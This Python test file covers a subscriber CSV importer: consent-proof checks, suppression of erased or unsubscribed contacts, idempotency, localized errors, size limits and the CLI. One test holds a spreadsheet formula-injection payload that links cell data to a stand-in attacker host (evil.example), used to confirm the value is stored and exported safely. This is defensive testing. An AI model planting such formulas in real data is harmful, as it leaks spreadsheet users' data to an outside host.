"""Subscriber import from CSV: proof of consent required, suppression honoured, idempotent."""

from __future__ import annotations

import csv
import html
import io
import json
import string
import zipfile
from pathlib import Path

import httpx
import pytest
from hypothesis import event, given
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession
from typer.testing import CliRunner

from tests import helpers
from tests.inbox.test_pages import PASSWORD, _csrf, _login
from tresen.broadcast import importer, links, topics
from tresen.cli import app
from tresen.db.tables import (
    AuditEntry,
    ConsentEvent,
    Contact,
    ContactIdentity,
    Subscription,
    Topic,
)
from tresen.inbox import accounts
from tresen.privacy import erasure
from tresen.privacy.export import export_contact
from tresen.runtime import Runtime
from tresen.web import i18n, topics_admin

HEADER = "channel,address,language,consent_source,consent_at,consent_text_version,consent_proof"


def _csv(*rows: str, header: str = HEADER) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode()


async def _setup(runtime: Runtime) -> tuple[str, Topic]:
    ws, _ = await helpers.seed_whatsapp(runtime)
    async with runtime.sessions() as session, session.begin():
        topic = await topics.create_topic(session, ws, "ticker", "Live-Ticker")
    return ws, topic


async def _import(
    runtime: Runtime, ws: str, topic: Topic, data: bytes, **kw: bool
) -> importer.ImportReport:
    async with runtime.sessions() as session, session.begin():
        return await importer.import_subscribers(
            session,
            secret_key=runtime.settings.secret_key,
            workspace_id=ws,
            topic=topic,
            data=data,
            **kw,
        )


async def _count(runtime: Runtime, table: type) -> int:
    async with runtime.sessions() as session:
        return await session.scalar(select(func.count()).select_from(table)) or 0


async def test_rows_without_proof_are_refused_by_line_and_nothing_is_written(
    runtime: Runtime,
) -> None:
    ws, topic = await _setup(runtime)
    data = _csv(
        "whatsapp,+49 151 1111111,de,Newsletter form,2025-03-01T10:00:00+01:00,v3,",
        "whatsapp,+49 151 2222222,de,,2025-03-01,v3,",  # no source
        "whatsapp,+49 151 3333333,en,Shop,2025-03-01,,",  # neither version nor proof
        "whatsapp,0151 4444444,de,Shop,2025-03-01,v3,",  # no country code
        "whatsapp,+49 151 5555555,fr,Shop,2025-03-01,v3,",
        "whatsapp,+49 151 6666666,de,Shop,2099-01-01,v3,",
        "whatsapp,+49 151 7777777,de,Shop,gestern,v3,",
        "telegram,12345,de,Shop,2025-03-01,v3,",  # no such channel
        "whatsapp,+49 151 8888888,de,Shop,2025-03-01",  # too few fields
    )
    report = await _import(runtime, ws, topic, data)
    assert not report.written and report.imported == 1 and report.records == 9
    messages = {p.line: p.message for p in report.problems}
    assert sorted(messages) == [3, 4, 5, 6, 7, 8, 9, 10]
    assert "consent_source" in messages[3]
    assert "consent_text_version or consent_proof" in messages[4]
    assert "country code" in messages[5]
    assert "'fr'" in messages[6] and "future" in messages[7] and "gestern" in messages[8]
    assert "no channel 'telegram'" in messages[9] and "5 fields" in messages[10]
    assert [(p.code, dict(p.params)) for p in report.problems] == [
        ("no_proof", {"columns": "consent_source"}),
        ("no_proof_version", {}),
        ("no_country_code", {"value": "0151 4444444"}),
        ("bad_language", {"value": "fr"}),
        ("future_time", {}),
        ("bad_time", {"value": "gestern"}),
        ("no_channel", {"value": "telegram"}),
        ("field_count", {"found": 5, "expected": 7}),
    ]
    assert await _count(runtime, Contact) == 0 and await _count(runtime, ConsentEvent) == 0

    partial = await _import(runtime, ws, topic, data, skip_invalid=True)
    assert partial.written and partial.imported == 1
    async with runtime.sessions() as session:
        identity = await session.scalar(select(ContactIdentity))
        sub = await session.scalar(select(Subscription))
        event = await session.scalar(select(ConsentEvent))
        audit = await session.scalar(
            select(AuditEntry).where(AuditEntry.action == "subscribers.imported")
        )
    assert identity is not None and identity.address == "491511111111"
    assert sub is not None and sub.state == "confirmed" and sub.source == "import"
    assert event is not None and event.source == "import: Newsletter form"
    assert (
        event.purpose == "topic:ticker" and event.action == "granted" and event.text_version == "v3"
    )
    assert event.occurred_at.isoformat() == "2025-03-01T09:00:00+00:00"
    assert event.text_hash == importer.proof_hash(importer.parse_csv(data).rows[0], topic)
    assert audit is not None and audit.details["imported"] == 1 and audit.details["refused"] == 8


async def test_import_is_idempotent_and_dry_run_writes_nothing(runtime: Runtime) -> None:
    ws, topic = await _setup(runtime)
    data = _csv(
        "whatsapp,4915111111111,de,Shop,2025-03-01,,ticket-1",
        "Test WhatsApp,+49 (151) 111-11111,de,Shop,2025-03-01,,ticket-1",  # same person, by name
        "whatsapp,+4915122222222,en,Shop,2025-03-01,v1,",
    )
    dry = await _import(runtime, ws, topic, data, dry_run=True)
    assert dry.imported == 2 and dry.already == 1 and not dry.written
    assert await _count(runtime, Contact) == 0
    first = await _import(runtime, ws, topic, data)
    assert first.written and first.imported == 2
    again = await _import(runtime, ws, topic, data)
    assert again.imported == 0 and again.already == 3
    assert await _count(runtime, Contact) == 2 and await _count(runtime, ConsentEvent) == 2
    async with runtime.sessions() as session:
        langs = sorted(await session.scalars(select(Subscription.language)))
    assert langs == ["de", "en"]


async def test_erased_and_unsubscribed_people_are_not_imported_again(runtime: Runtime) -> None:
    ws, topic = await _setup(runtime)
    data = _csv(
        "whatsapp,+4915111111111,de,Shop,2025-03-01,v1,",
        "whatsapp,+4915122222222,de,Shop,2025-03-01,v1,",
    )
    await _import(runtime, ws, topic, data)
    async with runtime.sessions() as session:
        people = {i.address: i.contact_id for i in await session.scalars(select(ContactIdentity))}
    async with runtime.sessions() as session:
        await erasure.erase(
            runtime.engine,
            session,
            secret_key=runtime.settings.secret_key,
            files=runtime.files,
            workspace_id=ws,
            contact_id=people["4915111111111"],
            actor_id=None,
            via="test",
        )
    async with runtime.sessions() as session, session.begin():
        contact = await session.get_one(Contact, people["4915122222222"])
        await topics.withdraw(session, contact, None, topic, "whatsapp keyword", "de")
    report = await _import(runtime, ws, topic, data)
    assert not report.written
    messages = [p.message for p in report.problems]
    assert "erased" in messages[0] and "unsubscribed" in messages[1]
    assert await _count(runtime, Subscription) == 1  # the withdrawn one, still withdrawn


async def test_link_tracking_column_records_that_consent(runtime: Runtime) -> None:
    ws, topic = await _setup(runtime)
    data = _csv(
        "whatsapp,+4915111111111,Shop,2025-03-01,v1,yes",
        "whatsapp,+4915122222222,Shop,2025-03-01,v1,nein",
        header="channel,address,consent_source,consent_at,consent_text_version,link_tracking",
    )
    assert (await _import(runtime, ws, topic, data)).imported == 2
    async with runtime.sessions() as session:
        ids = {i.address: i.contact_id for i in await session.scalars(select(ContactIdentity))}
        assert await links.tracking_allowed(session, ids["4915111111111"])
        assert not await links.tracking_allowed(session, ids["4915122222222"])


async def test_thousands_of_rows_in_one_call_cross_the_batches(runtime: Runtime) -> None:
    ws, topic = await _setup(runtime)
    n = 2 * importer.BATCH + 700
    rows = [
        f"whatsapp,+49 151 {i:08d},{'en' if i % 3 == 0 else 'de'},Shop,2025-03-01,v1,"
        + ("yes" if i % 4 == 0 else "")
        for i in range(n)
    ]
    # The same people again, in another spelling, in later batches.
    rows += [f"whatsapp,0049 151 {i:08d},de,Again,2025-04-01,v2," for i in (3, 501, 1199)]
    # Someone who opted out before, in the middle of the file.
    async with runtime.sessions() as session, session.begin():
        await _import_one(session, runtime, ws, topic, "4915100000777")
    data = _csv(*rows, header=HEADER.replace("consent_proof", "link_tracking"))
    report = await _import(runtime, ws, topic, data, skip_invalid=True)
    assert report.written and report.records == n + 3
    assert report.imported == n - 1 and report.already == 3
    assert [(p.line, "unsubscribed" in p.message) for p in report.problems] == [(779, True)]
    assert await _count(runtime, Contact) == n and await _count(runtime, ContactIdentity) == n
    async with runtime.sessions() as session:
        subs = dict(
            (
                await session.execute(
                    select(Subscription.state, func.count()).group_by(Subscription.state)
                )
            ).all()
        )
        events = {
            (purpose, action): count
            for purpose, action, count in await session.execute(
                select(ConsentEvent.purpose, ConsentEvent.action, func.count()).group_by(
                    ConsentEvent.purpose, ConsentEvent.action
                )
            )
        }
        english = await session.scalar(
            select(func.count()).select_from(Subscription).where(Subscription.language == "en")
        )
    assert subs == {"confirmed": n - 1, "withdrawn": 1}
    assert events == {
        ("topic:ticker", "granted"): n,  # n - 1 imported now, and the one who left later
        ("topic:ticker", "withdrawn"): 1,
        (links.PURPOSE, "granted"): len(range(0, n, 4)),
    }
    assert english == len([i for i in range(n) if i % 3 == 0 and i != 777])
    again = await _import(runtime, ws, topic, data, skip_invalid=True)
    assert again.imported == 0 and again.already == n + 2 and len(again.problems) == 1
    assert await _count(runtime, Contact) == n


async def _import_one(
    session: AsyncSession, runtime: Runtime, ws: str, topic: Topic, address: str
) -> None:
    """One subscriber who then opts out of the topic."""
    await importer.import_subscribers(
        session,
        secret_key=runtime.settings.secret_key,
        workspace_id=ws,
        topic=topic,
        data=_csv(f"whatsapp,+{address},de,Shop,2025-03-01,v1,"),
    )
    contact = await session.scalar(
        select(Contact)
        .join(ContactIdentity, ContactIdentity.contact_id == Contact.id)
        .where(ContactIdentity.address == address)
    )
    assert contact is not None
    await topics.withdraw(session, contact, None, topic, "whatsapp keyword", "de")


async def _admins(runtime: Runtime) -> Topic:
    """A German and an English admin, and a topic to import into."""
    ws, topic = await _setup(runtime)
    async with runtime.sessions() as session, session.begin():
        await accounts.add_user(session, ws, "chefin@laden.example", "admin", PASSWORD)
        await accounts.add_user(session, ws, "boss@laden.example", "admin", PASSWORD, language="en")
    return topic


async def _upload(
    client: httpx.AsyncClient, topic: Topic, data: bytes, **form: str
) -> httpx.Response:
    page = await client.get("/inbox/admin/topics")
    return await client.post(
        "/inbox/admin/topics/import",
        data={"_csrf_token": _csrf(page.text), "topic": topic.id, **form},
        files={"file": ("abonnenten.csv", data, "text/csv")},
    )


async def test_admin_page_shows_import_errors_in_the_admins_language(runtime: Runtime) -> None:
    topic = await _admins(runtime)
    rows = _csv(
        "whatsapp,+49 151 1111111,xx,Shop,2025-03-01,v1,",
        "whatsapp,0151 2222222,de,Shop,2025-03-01,v1,",
        "whatsapp,+49 151 3333333,de,Shop,2025-03-01,,",
    )
    latin1 = HEADER.encode() + b"\nwhatsapp,+4915111111111,de,Caf\xe9,2025-01-01,v1,\n"
    expected = {
        "chefin@laden.example": (
            "Zeile 2: Sprache 'xx' ist weder de noch en",
            "Zeile 3: Bei der Telefonnummer '0151 2222222' fehlt die Ländervorwahl",
            "Zeile 4: Kein Nachweis der Einwilligung: consent_text_version und consent_proof leer",
            "Es wurde nichts importiert.",
            "Die Datei ist nicht UTF-8-kodiert (Zeile 2, Byte",
        ),
        "boss@laden.example": (
            "Line 2: language 'xx' is not de or en",
            "Line 3: phone number '0151 2222222' needs its country code",
            "Line 4: no proof of consent: consent_text_version or consent_proof empty",
            "Nothing was imported.",
            "the file is not UTF-8 (line 2, byte",
        ),
    }
    for email, (bad_language, no_country_code, no_proof, nothing, not_utf8) in expected.items():
        async with helpers.client_for(runtime) as client:
            await _login(client, email)
            answer = await _upload(client, topic, rows, apply="1")
            text = html.unescape(answer.text)
            assert answer.status_code == 200
            assert bad_language in text and no_country_code in text and no_proof in text
            assert nothing in text
            answer = await _upload(client, topic, latin1, apply="1")
            assert answer.status_code == 422 and not_utf8 in html.unescape(answer.text)
    assert await _count(runtime, Contact) == 0


async def test_admin_page_takes_big_files_and_says_when_one_is_too_big(runtime: Runtime) -> None:
    topic = await _admins(runtime)
    proof = "x" * 400
    rows = [f"whatsapp,+49 151 {i:08d},de,Shop,2025-03-01,,{proof}-{i}" for i in range(3000)]
    big = _csv(*rows)
    assert len(big) > 1_000_000 > runtime.settings.max_webhook_bytes
    async with helpers.client_for(runtime) as client:
        await _login(client, "boss@laden.example")
        answer = await _upload(client, topic, big)
        assert answer.status_code == 200 and "Would import: 3000" in answer.text
        too_big = big + b"x" * (importer.MAX_BYTES - len(big) + 1)
        answer = await _upload(client, topic, too_big)
        assert answer.status_code == 413 and "the file is larger than 20 MB" in answer.text
        huge = too_big + b"x" * (topics_admin.UPLOAD_LIMIT - len(too_big))
        answer = await _upload(client, topic, huge)
        assert answer.status_code == 303
        answer = await client.get(answer.headers["location"])
        assert answer.status_code == 413 and "the file is larger than 20 MB" in answer.text
    assert await _count(runtime, Contact) == 0


def _fields(message: str) -> list[tuple[str, str | None]]:
    return sorted((f, c) for _, f, _, c in string.Formatter().parse(message) if f is not None)


def test_every_refusal_has_german_words_with_the_same_fields() -> None:
    german = i18n.catalog("de")
    for code, english in importer.MESSAGES.items():
        assert english in german, f"{code} has no German translation in messages.po"
        assert _fields(german[english]) == _fields(english), code
    # Words that do not fit their fields fall back to English rather than fail the page.
    assert importer.render("bad_language", {"value": "fr"}, lambda _: "{sprache}") == (
        "language 'fr' is not de or en"
    )


def test_bad_files_get_a_clear_error() -> None:
    for data, code in [
        (b"", "file_empty"),
        (b"\xef\xbb\xbf\r\n \r\n", "file_empty"),
        (HEADER.encode() + b"\n", "no_rows"),
        (b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n\r\n,,\r\n", "no_rows"),
        (b"x" * (importer.MAX_BYTES + 1), "file_too_large"),
        (HEADER.encode() + b"\nwhatsapp,+4915111111111,de,M\xfcller,2025-01-01,v1,\n", "not_utf8"),
        (HEADER.encode() + b"\nwhatsapp,+49151\x00,de,Shop,2025-01-01,v1,\n", "nul_bytes"),
        (HEADER.replace("channel", "kanal").encode(), "header_lacks"),
        ((HEADER + ",address").encode(), "duplicate_column"),
    ]:
        with pytest.raises(importer.ImportFileError) as caught:
            importer.parse_csv(data)
        assert caught.value.code == code, (data[:80], caught.value)
    latin1 = "channel;address;consent_source;consent_at;consent_proof\nwhatsapp;+4915111111111;Laden Köln;2025-01-01;Zettel\n"
    where = latin1.encode("latin-1").index("ö".encode("latin-1"))
    with pytest.raises(importer.ImportFileError, match=rf"not UTF-8 \(line 2, byte {where}\)"):
        importer.parse_csv(latin1.encode("latin-1"))
    assert len(importer.parse_csv(latin1.encode()).rows) == 1


def test_rows_with_too_many_fields_or_odd_quoting_are_refused_by_line() -> None:
    data = _csv(
        "whatsapp,+4915111111111,de,Shop,2025-03-01,v1,,extra,fields",
        'whatsapp,+4915122222222,de,"Shop, Berlin",2025-03-01,v1,',  # a quoted comma is fine
        'whatsapp,+4915133333333,de,"Laden\nMitte",2025-03-01,v1,',  # two lines, one record
        "whatsapp,+4915144444444,de,Shop,2025-03-01,v1,",
    )
    parsed = importer.parse_csv(data)
    assert [(p.line, p.code, dict(p.params)) for p in parsed.problems] == [
        (2, "field_count", {"found": 9, "expected": 7}),
        (4, "control_characters", {"column": "consent_source"}),
    ]
    assert [r.line for r in parsed.rows] == [3, 6] and parsed.rows[0].consent_source == (
        "Shop, Berlin"
    )


async def test_a_formula_in_a_name_is_stored_as_text_and_exported_escaped(
    runtime: Runtime, tmp_path: Path
) -> None:
    ws, topic = await _setup(runtime)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'
    data = _csv(
        f'whatsapp,+4915111111111,"{formula.replace(chr(34), chr(34) * 2)}",de,'
        "+Shop,2025-03-01,@v1,-1",
        header="channel,address,name,language,consent_source,consent_at,"
        "consent_text_version,consent_proof",
    )
    assert (await _import(runtime, ws, topic, data)).imported == 1
    async with runtime.sessions() as session:
        contact = await session.scalar(select(Contact))
        event = await session.scalar(select(ConsentEvent))
    assert contact is not None and contact.display_name == formula
    assert event is not None and event.source == "import: +Shop; proof -1"
    # There is no CSV export: a person's data leaves as JSON and escaped HTML, never a sheet.
    out = tmp_path / "export.zip"
    await export_contact(
        runtime.sessions,
        workspace_id=ws,
        contact_id=contact.id,
        files=runtime.files,
        out=out,
        actor_id=None,
        via="test",
    )
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        exported = json.loads(archive.read("data.json"))
        page = archive.read("index.html").decode()
    assert not [n for n in names if n.endswith((".csv", ".xlsx", ".ods"))]
    assert exported["contact"]["display_name"] == formula
    assert html.escape(formula) in page and formula not in page


def test_whole_file_errors_are_clear() -> None:
    with pytest.raises(importer.ImportFileError, match=r"not UTF-8 \(line 2"):
        importer.parse_csv(HEADER.encode() + b"\nwhatsapp,+49151,de,Caf\xe9,2025-01-01,v,\n")
    with pytest.raises(importer.ImportFileError, match="lacks consent_source, consent_at"):
        importer.parse_csv(b"channel,address\nwhatsapp,+4915111111111\n")
    with pytest.raises(importer.ImportFileError, match="unknown columns"):
        importer.parse_csv((HEADER + ",shoe_size").encode())
    with pytest.raises(importer.ImportFileError, match="empty"):
        importer.parse_csv(b"\xef\xbb\xbf  \n")
    # Excel's German CSV: semicolons and a byte order mark.
    excel = (
        "\ufeff" + HEADER.replace(",", ";") + "\nwhatsapp;+4915111111111;de;Shop;2025-03-01;v1;\n"
    )
    assert len(importer.parse_csv(excel.encode()).rows) == 1


_field = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), max_size=12)
_row = st.fixed_dictionaries(
    {
        "channel": st.sampled_from(["whatsapp", "telegram", "", "x"]),
        "address": st.one_of(st.just("+4915111111111"), _field),
        "language": st.sampled_from(["de", "en", "", "xx"]),
        "consent_source": st.one_of(st.just("Shop"), _field),
        "consent_at": st.one_of(st.just("2025-03-01"), _field),
        "consent_text_version": _field,
        "consent_proof": _field,
    }
)


@given(st.lists(_row, max_size=12), st.sampled_from([",", ";", "\t"]))
def test_every_row_is_imported_or_refused_with_its_line(
    rows: list[dict[str, str]], delimiter: str
) -> None:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=HEADER.split(","), delimiter=delimiter)
    writer.writeheader()
    writer.writerows(rows)
    blank = sum(1 for r in rows if not any(v.strip() for v in r.values()))
    if blank == len(rows):
        with pytest.raises(importer.ImportFileError, match="no rows"):
            importer.parse_csv(out.getvalue().encode())
        return
    parsed = importer.parse_csv(out.getvalue().encode())
    # Each non-blank record is either a row or a problem, never both, never lost.
    lines = [r.line for r in parsed.rows] + [p.line for p in parsed.problems]
    assert len(lines) == len(set(lines)) == parsed.records
    assert parsed.records == len(rows) - blank
    for row in parsed.rows:
        assert row.consent_source and row.consent_at and (row.text_version or row.proof)


@given(st.binary(max_size=400))
def test_parser_never_fails_on_bytes(data: bytes) -> None:
    try:
        parsed = importer.parse_csv(data)
    except importer.ImportFileError as exc:
        assert str(exc)
        return
    assert parsed.records == len(parsed.rows) + len(parsed.problems)


_GERMAN = i18n.catalog("de")
_column = st.sampled_from([*sorted(importer.KNOWN), "", "Consent Source", "shoe_size"])
_cell_text = st.one_of(
    st.sampled_from(["whatsapp", "+4915111111111", "2025-03-01", "v1", "yes", "de", "=1+1"]),
    st.text(alphabet=st.sampled_from(list("ab1+ ,;\t\"'\n\r=@é\ufeff\x7f\x85")), max_size=12),
    st.text(max_size=12),
)


_GOOD = {
    "channel": "whatsapp",
    "address": "+49 151 11111111",
    "consent_source": "Shop",
    "consent_at": "2025-03-01T10:00:00+01:00",
    "consent_text_version": "v1",
    "consent_proof": "Formular 7",
    "language": "en",
    "name": "Jürgen",
    "link_tracking": "ja",
}


@st.composite
def _table(draw: st.DrawFn) -> list[list[str]]:
    """A header and rows: mostly good values, some odd cells, some rows too short or long."""
    header = draw(
        st.one_of(
            st.permutations([*HEADER.split(","), "name", "link_tracking"]),
            st.lists(_column, min_size=1, max_size=9),
        )
    )
    rows = []
    for _ in range(draw(st.integers(0, 8))):
        odd = draw(st.sets(st.sampled_from(header), max_size=2))
        cells = [draw(_cell_text) if c in odd else _GOOD.get(c, "") for c in header]
        if draw(st.integers(0, 5)) == 0:
            cells = cells[: draw(st.integers(0, len(cells)))] + draw(st.lists(_cell_text))
        rows.append(cells)
    return [header, *rows]


@given(
    table=_table(),
    delimiter=st.sampled_from([",", ";", "\t"]),
    newline=st.sampled_from(["\n", "\r\n", "\r"]),
    quoted=st.booleans(),
    bom=st.booleans(),
)
def test_parse_csv_refuses_only_with_import_file_errors_and_loses_no_row(
    table: list[list[str]], delimiter: str, newline: str, quoted: bool, bom: bool
) -> None:
    if quoted:  # well-formed CSV, as a spreadsheet writes it
        out = io.StringIO()
        csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows(table)
        text = out.getvalue()
    else:  # cells joined as they are: stray quotes, delimiters and line breaks included
        text = newline.join(delimiter.join(cells) for cells in table)
    data = (("\ufeff" if bom else "") + text).encode()
    try:
        parsed = importer.parse_csv(data)
    except importer.ImportFileError as exc:
        event(exc.code)
        assert exc.code in importer.MESSAGES and str(exc)
        assert exc.text(lambda m: _GERMAN.get(m, m))
        return
    event("parsed" if parsed.rows else "parsed, every row refused")
    accepted = [r.line for r in parsed.rows]
    refused = [p.line for p in parsed.problems]
    assert parsed.records == len(accepted) + len(refused) > 0
    assert len(set(accepted + refused)) == parsed.records  # one verdict per record
    for problem in parsed.problems:
        assert problem.code in importer.MESSAGES and problem.message
        assert problem.text(lambda m: _GERMAN.get(m, m))
    for row in parsed.rows:
        assert row.channel and row.address and row.consent_source
        assert row.text_version or row.proof
        assert row.language in ("de", "en")
        for value in (row.channel, row.address, row.name, row.consent_source, row.proof):
            assert len(value) <= importer.MAX_FIELD and not any(ord(c) < 32 for c in value)


@given(st.text(max_size=30))
def test_address_normalisation_never_fails_oddly(raw: str) -> None:
    for kind in importer.importable_kinds():
        try:
            out = importer.normalise_address(kind, raw)
        except ValueError as exc:
            assert str(exc)
        else:
            assert out and len(out) <= 320


def test_cli_import_reports_lines_and_exit_codes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TRESEN_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("TRESEN_DATABASE_URL", raising=False)
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    assert runner.invoke(app, ["topic", "add", "ticker", "--name", "Live-Ticker"]).exit_code == 0
    added = runner.invoke(
        app,
        [
            "channel",
            "add",
            "whatsapp",
            "--name",
            "WA",
            "--phone-number-id",
            "1",
            "--app-secret",
            "a",
            "--verify-token",
            "v",
            "--access-token",
            "t",
        ],
    )
    assert added.exit_code == 0, added.output
    file = tmp_path / "s.csv"
    file.write_bytes(
        _csv(
            "whatsapp,+4915111111111,de,Shop,2025-03-01,v1,",
            "whatsapp,+4915122222222,de,,2025-03-01,v1,",
        )
    )
    refused = runner.invoke(app, ["topic", "import", str(file), "--topic", "ticker"])
    assert refused.exit_code == 1 and "line 3: no proof of consent" in refused.output
    assert "nothing imported" in refused.output
    dry = runner.invoke(app, ["topic", "import", str(file), "--topic", "ticker", "--dry-run"])
    assert dry.exit_code == 1 and "would import 1" in dry.output
    ok = runner.invoke(app, ["topic", "import", str(file), "--topic", "ticker", "--skip-invalid"])
    assert ok.exit_code == 0 and "imported 1" in ok.output
    listed = runner.invoke(app, ["topic", "list"])
    assert "confirmed=1" in listed.output
    missing = runner.invoke(
        app, ["topic", "import", str(tmp_path / "nope.csv"), "--topic", "ticker"]
    )
    assert missing.exit_code == 2 and "cannot read" in missing.output
    (tmp_path / "bad.csv").write_bytes(b"\xff\xfe\x00")
    bad = runner.invoke(app, ["topic", "import", str(tmp_path / "bad.csv"), "--topic", "ticker"])
    assert bad.exit_code == 2 and "not UTF-8" in bad.output
    (tmp_path / "header.csv").write_bytes(_csv())
    header = runner.invoke(
        app, ["topic", "import", str(tmp_path / "header.csv"), "--topic", "ticker"]
    )
    assert header.exit_code == 2 and "the file has a header but no rows" in header.output
    links_out = runner.invoke(app, ["topic", "links", "ticker", "--qr-out", str(tmp_path / "qr")])
    assert links_out.exit_code == 0 and "missing: display_phone_number" in links_out.output
    channel_id = added.output.split()[2]
    setting = runner.invoke(
        app, ["channel", "set", channel_id, "--display-phone-number", "+49 30 123456"]
    )
    assert setting.exit_code == 0, setting.output
    links_out = runner.invoke(app, ["topic", "links", "ticker", "--qr-out", str(tmp_path / "qr")])
    assert "https://wa.me/4930123456?text=START%20ticker" in links_out.output
    assert sorted(p.suffix for p in (tmp_path / "qr").iterdir()) == [".html", ".png", ".svg"]
